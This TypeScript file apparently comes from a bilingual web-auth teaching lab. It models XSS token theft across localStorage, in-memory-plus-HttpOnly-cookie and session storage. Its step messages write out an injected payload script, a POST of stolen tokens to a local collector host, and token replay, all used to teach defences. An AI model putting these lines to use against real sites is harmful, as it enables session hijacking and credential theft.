/**
 * XSS by storage mode: a script injected into the web app's page (the lab injects it from the
 * attacker site) runs with the page's origin and reports to the attacker's collector. What it can
 * take depends on where the design keeps its credentials:
 *
 * - the documents' mode (both tokens in localStorage): both read and shipped; the attacker
 *   refreshes from his own server after the tab is closed, for as long as the family lives;
 * - the recommended mode (access token in memory, refresh token in an HttpOnly cookie): nothing to
 *   read — but the script calls POST /refresh itself, the browser attaches the cookie, and fresh
 *   access tokens go to the collector for as long as the page is open (RFC 10017 §5.3);
 * - the session cookie: nothing to read and nothing to replay afterwards, yet while the page is
 *   open the script acts as the user (session riding).
 *
 * Step ids: jwt.csrf.check-request, jwt.refresh.*, jwt.auth.*, jwt.request.respond,
 * session.auth.*, session.request.respond (server); *.attack-xss* (attacker and browser).
 * Reference: RFC 10017 §5.1–5.3; OWASP XSS Prevention Cheat Sheet; OWASP HTML5 Security Cheat
 * Sheet, "Local Storage".
 */
import { keepVerbatim } from '../localized.ts';
import { buildJwtRefreshSteps } from '../steps/jwt-refresh-steps.ts';
import { buildJwtAuthSteps, buildJwtRespondStep } from '../steps/jwt-steps.ts';
import { buildSessionRespondStep } from '../steps/session-login-steps.ts';
import { buildSessionLoadStep, buildSessionReadCookieStep } from '../steps/session-steps.ts';
import { putInPhase } from '../steps/step-helpers.ts';
import type {
  AttackerStep,
  BrowserStep,
  Flow,
  FlowApi,
  ServerStep,
  StorageEffect,
} from '../types.ts';

function buildInjectStep(flowId: string): AttackerStep {
  return {
    id: `${flowId}.inject`,
    side: 'attacker',
    from: 'attacker-site',
    to: 'browser',
    message: keepVerbatim('<script src="http://127.0.0.1:4300/xss/payload.js"> runs in the page'),
    explanation: {
      en: "Whatever the bug (an unescaped comment, a compromised npm package), the script runs with the page's origin: same storage, same cookies, same APIs. The lab injects it; the app has no real injection point.",
      vi: 'Dù lỗi là gì (một bình luận không được escape, một gói npm bị chiếm quyền), script chạy với origin của trang: cùng storage, cùng cookie, cùng API. Lab chèn nó vào; app không có chỗ nào thật sự bị chèn.',
    },
    effects: [],
  };
}

function buildReadStep(
  flowId: string,
  effects: readonly StorageEffect[],
  found: string,
): BrowserStep {
  return {
    id: `${flowId}.read-storage`,
    side: 'browser',
    from: 'browser',
    to: 'browser',
    message: keepVerbatim(`injected script: read localStorage, document.cookie → ${found}`),
    explanation: {
      en: 'Everything a script of the page can read, the injected one can too. HttpOnly cookies never show in document.cookie.',
      vi: 'Mọi thứ script của trang đọc được thì script bị chèn cũng đọc được. Cookie HttpOnly không bao giờ hiện trong document.cookie.',
    },
    effects,
  };
}

function buildShipStep(flowId: string, what: string): BrowserStep {
  return {
    id: `${flowId}.ship`,
    side: 'browser',
    from: 'browser',
    to: 'attacker-site',
    message: keepVerbatim(`POST http://127.0.0.1:4300/collect {${what}}`),
    explanation: {
      en: "One fetch to a server that opts in with CORS: no browser rule stops it. Only the page's own CSP (connect-src) could.",
      vi: 'Chỉ một lệnh fetch tới server chấp nhận CORS: không quy tắc nào của trình duyệt chặn nó. Chỉ CSP của chính trang (connect-src) mới chặn được.',
    },
    effects: [],
  };
}

function buildReplayStep(flowId: string, api: FlowApi, message: string): AttackerStep {
  return {
    id: `${flowId}.replay`,
    side: 'attacker',
    from: 'attacker-site',
    to: api === 'jwt' ? 'jwt-api' : 'session-api',
    message: keepVerbatim(message),
    explanation: {
      en: "From the attacker's server, after the victim closed the tab: a bearer credential works for whoever holds it (RFC 6750 §5).",
      vi: 'Từ server của kẻ tấn công, sau khi nạn nhân đã đóng tab: credential dạng bearer dùng được cho bất kỳ ai đang giữ nó (RFC 6750 §5).',
    },
    effects: [],
  };
}

const toAttacker = (steps: readonly ServerStep[]): ServerStep[] =>
  steps.map((step) => (step.to === 'browser' ? { ...step, to: 'attacker-site' } : step));

export const JWT_ATTACK_XSS_DOCUMENTS_FLOW: Flow = {
  id: 'jwt.attack-xss-documents',
  api: 'jwt',
  section: 'attacks',
  mode: 'documents',
  title: {
    en: "JWT, the documents' storage (unsafe): XSS steals both tokens",
    vi: 'JWT, cách lưu của tài liệu (không an toàn): XSS lấy cắp cả hai token',
  },
  summary: {
    en: "Both tokens sit in localStorage, so the injected script reads and ships them. From his own server the attacker refreshes with the refresh token long after the tab is closed — until the family expires or the victim's own refresh trips reuse detection.",
    vi: 'Cả hai token nằm trong localStorage, nên script bị chèn đọc và gửi chúng đi. Từ server của mình, kẻ tấn công refresh bằng refresh token rất lâu sau khi tab đã đóng — tới khi family hết hạn hoặc lần refresh của chính nạn nhân kích hoạt cơ chế phát hiện dùng lại.',
  },
  steps: [
    ...putInPhase({ en: 'While the page is open', vi: 'Khi trang còn mở' }, [
      buildInjectStep('jwt.attack-xss-documents'),
      buildReadStep(
        'jwt.attack-xss-documents',
        [
          {
            location: 'local-storage',
            change: 'reads',
            what: keepVerbatim('access_token, refresh_token'),
          },
        ],
        'access_token, refresh_token',
      ),
      buildShipStep('jwt.attack-xss-documents', 'access_token, refresh_token'),
    ]),
    ...putInPhase({ en: 'After the tab is closed', vi: 'Sau khi tab đã đóng' }, [
      buildReplayStep('jwt.attack-xss-documents', 'jwt', 'POST /refresh {refresh_token: <stolen>}'),
      ...toAttacker(buildJwtRefreshSteps()),
    ]),
  ],
};

export const JWT_ATTACK_XSS_MEMORY_FLOW: Flow = {
  id: 'jwt.attack-xss-memory',
  api: 'jwt',
  section: 'attacks',
  title: {
    en: 'JWT, memory + HttpOnly cookie: XSS mints new tokens',
    vi: 'JWT, bộ nhớ + cookie HttpOnly: XSS tự tạo token mới',
  },
  summary: {
    en: 'The refresh token cannot be read — but the injected script calls POST /refresh itself, the browser attaches the HttpOnly cookie, and the fresh access token goes to the collector, again and again while the page is open (RFC 10017 §5.3). After the tab closes the last one works until it expires. HttpOnly stops theft, not abuse.',
    vi: 'Không đọc được refresh token — nhưng script bị chèn tự gọi POST /refresh, trình duyệt gắn cookie HttpOnly vào, và access token mới được gửi về bộ thu, lặp đi lặp lại chừng nào trang còn mở (RFC 10017 §5.3). Sau khi tab đóng, token cuối cùng vẫn dùng được tới khi hết hạn. HttpOnly chặn đánh cắp, không chặn lạm dụng.',
  },
  steps: [
    ...putInPhase({ en: 'While the page is open', vi: 'Khi trang còn mở' }, [
      buildInjectStep('jwt.attack-xss-memory'),
      buildReadStep('jwt.attack-xss-memory', [], 'nothing'),
      {
        id: 'jwt.attack-xss-memory.call-refresh',
        side: 'browser',
        from: 'browser',
        to: 'jwt-api',
        message: keepVerbatim('injected script: POST /refresh · X-Requested-With: authlab'),
        explanation: {
          en: "Same origin, the app's own custom header: every CSRF layer passes, and the browser attaches the refresh cookie the script cannot read.",
          vi: 'Cùng origin, cùng custom header của app: mọi lớp CSRF đều qua, và trình duyệt gắn refresh cookie mà script không đọc được.',
        },
        effects: [{ location: 'cookie-jar', change: 'reads', what: keepVerbatim('authlab.rt') }],
      },
      ...buildJwtRefreshSteps(),
      buildShipStep('jwt.attack-xss-memory', 'access_token'),
    ]),
    ...putInPhase({ en: 'After the tab is closed', vi: 'Sau khi tab đã đóng' }, [
      buildReplayStep('jwt.attack-xss-memory', 'jwt', 'GET /me · Authorization: Bearer <minted>'),
      ...toAttacker([...buildJwtAuthSteps(), buildJwtRespondStep('{user}')]),
    ]),
  ],
};

export const SESSION_ATTACK_XSS_FLOW: Flow = {
  id: 'session.attack-xss',
  api: 'session',
  section: 'attacks',
  title: {
    en: 'Session: XSS rides the session, steals nothing',
    vi: 'Session: XSS cưỡi lên session, không lấy được gì',
  },
  summary: {
    en: 'The session id is in an HttpOnly cookie: the injected script cannot read it. But every request it sends carries the cookie, so it acts as the user while the page is open (session riding). When the tab closes the attacker holds nothing to replay.',
    vi: 'Session id nằm trong cookie HttpOnly: script bị chèn không đọc được. Nhưng mọi request nó gửi đều mang theo cookie, nên nó hành động như người dùng chừng nào trang còn mở (session riding). Khi tab đóng, kẻ tấn công không giữ gì để gửi lại.',
  },
  steps: [
    buildInjectStep('session.attack-xss'),
    buildReadStep('session.attack-xss', [], 'no authlab.sid (HttpOnly)'),
    {
      id: 'session.attack-xss.ride',
      side: 'browser',
      from: 'browser',
      to: 'session-api',
      message: keepVerbatim('injected script: GET /me (Cookie: authlab.sid attached)'),
      explanation: {
        en: "The browser attaches the cookie to the script's request as to any other of the page: the server cannot tell them apart.",
        vi: 'Trình duyệt gắn cookie vào request của script như mọi request khác của trang: server không phân biệt được.',
      },
      effects: [{ location: 'cookie-jar', change: 'reads', what: keepVerbatim('authlab.sid') }],
    },
    buildSessionReadCookieStep(),
    buildSessionLoadStep(),
    buildSessionRespondStep('{user}'),
    buildShipStep('session.attack-xss', 'what GET /me answered'),
  ],
};
